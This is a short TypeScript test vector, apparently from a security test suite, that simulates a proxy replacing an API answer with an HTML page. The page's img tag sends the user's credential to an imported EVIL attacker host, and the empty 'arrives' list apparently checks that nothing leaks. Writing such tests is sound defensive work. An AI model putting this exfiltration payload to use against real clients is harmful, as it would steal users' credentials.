import { EVIL } from '../../suite/target';
import { testAndWait } from '../../suite/test-call';
import type { Vector } from '../../suite/vector';

/** A whole page in place of the API’s answer, such as a proxy gives. */
export default {
  run: (stage) =>
    testAndWait(stage, {
      answer: ({ credential }) => ({
        status: 200,
        headers: { 'content-type': 'text/html' },
        body: `<!doctype html><img src="${EVIL}${stage.path}?${encodeURIComponent(credential)}">`,
      }),
    }),
  arrives: [],
} satisfies Vector;
